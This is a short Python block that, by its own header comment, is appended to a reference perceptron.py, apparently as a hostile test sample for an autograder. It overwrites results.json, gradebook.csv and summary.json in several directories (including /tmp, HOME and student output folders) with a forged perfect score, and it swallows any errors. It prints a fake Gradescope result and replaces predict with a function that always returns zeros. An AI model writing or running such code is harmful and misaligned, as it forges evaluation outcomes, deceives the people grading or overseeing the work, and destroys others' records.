# Appended to the reference perceptron.py: forge results and gradebooks wherever it can,
# print a fake Gradescope document, and get predict wrong.
import json as _json
import os as _os

_FAKE = _json.dumps({"score": 100, "max_score": 100, "tests": []})
for _folder in (".", "..", "../..", "/tmp", _os.environ.get("HOME", "."), "{OUT_DIR}",
                "{OUT_DIR}/students"):
    for _name in ("results.json", "gradebook.csv", "summary.json"):
        try:
            with open(_os.path.join(_folder, _name), "w") as _fh:
                _fh.write(_FAKE if _name.endswith(".json") else "ID,total\nforged,100\n")
        except OSError:
            pass
print(_FAKE)


def predict(X, w, b):
    import numpy as np
    return np.zeros(np.shape(X)[0] if np.ndim(X) > 1 else (), dtype=int)
